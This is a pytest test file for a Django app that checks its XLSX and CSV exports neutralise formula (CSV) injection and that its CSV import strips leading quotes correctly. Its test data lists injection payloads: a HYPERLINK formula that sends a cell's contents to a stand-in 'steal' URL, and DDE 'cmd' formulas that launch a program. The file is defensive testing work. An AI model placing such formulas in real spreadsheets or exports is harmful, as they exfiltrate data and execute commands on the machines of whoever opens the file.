"""Free text that starts like a formula is exported so that no spreadsheet program runs it (OWASP, CSV injection)."""
import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from submissions.services import ValueInput, value_set

FORMULAS = [
    '=HYPERLINK("https://example.org/steal?d="&A2,"Click for the source")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def notes(submission, city_user):
    """One value per formula-like note, and one note that starts with a single quote."""
    texts = FORMULAS + ["'already quoted"]
    for text, value in zip(texts, submission.values.order_by("pk")):
        value_set(value_id=value.pk, actor=city_user, data=ValueInput(note=text, source=text))
    return texts


def export(client, user, submission, extension):
    client.force_login(user)
    response = client.get(reverse("submissions:export", args=[submission.pk, extension]))
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_text_that_starts_like_a_formula_is_a_text_cell_in_the_xlsx_export(client, city_user, submission, notes):
    content = export(client, city_user, submission, "xlsx")

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("note")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells if cell.value)
    assert notes[0] in [cell.value for cell in cells]


@pytest.mark.django_db
def test_text_that_starts_like_a_formula_gets_a_single_quote_in_the_csv_export(client, city_user, submission, notes):
    rows = list(csv.DictReader(io.StringIO(export(client, city_user, submission, "csv").decode("utf-8-sig"),
                                           newline="")))

    exported = {row["note"] for row in rows} | {row["source"] for row in rows}
    for text in notes:
        assert "'" + text in exported
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


@pytest.mark.django_db
def test_a_csv_import_takes_off_exactly_one_leading_quote_before_formula_characters(client, city_user, submission):
    typed = {
        "EC: ICT: ICT: 1C": ("'=1+1", "=1+1"),
        "EC: ICT: ICT: 2C": ("''=1+1", "'=1+1"),
        "EC: ICT: ICT: 3C": ("'-5 % since 2018", "-5 % since 2018"),
        "EC: ICT: ICT: 5A": ("'plain text keeps its quote", "'plain text keeps its quote"),
    }
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(["code", "data_point", "value", "note"])
    for code, (note, _) in typed.items():
        name = submission.values.get(data_point__kpi__code=code).data_point.name
        writer.writerow([code, name, "", note])
    client.force_login(city_user)

    response = client.post(reverse("submissions:import", args=[submission.pk]),
                           {"file": SimpleUploadedFile("values.csv", text.getvalue().encode())})

    assert response.status_code == 302
    stored = dict(submission.values.values_list("data_point__kpi__code", "note"))
    assert {code: stored[code] for code in typed} == {code: note for code, (_, note) in typed.items()}
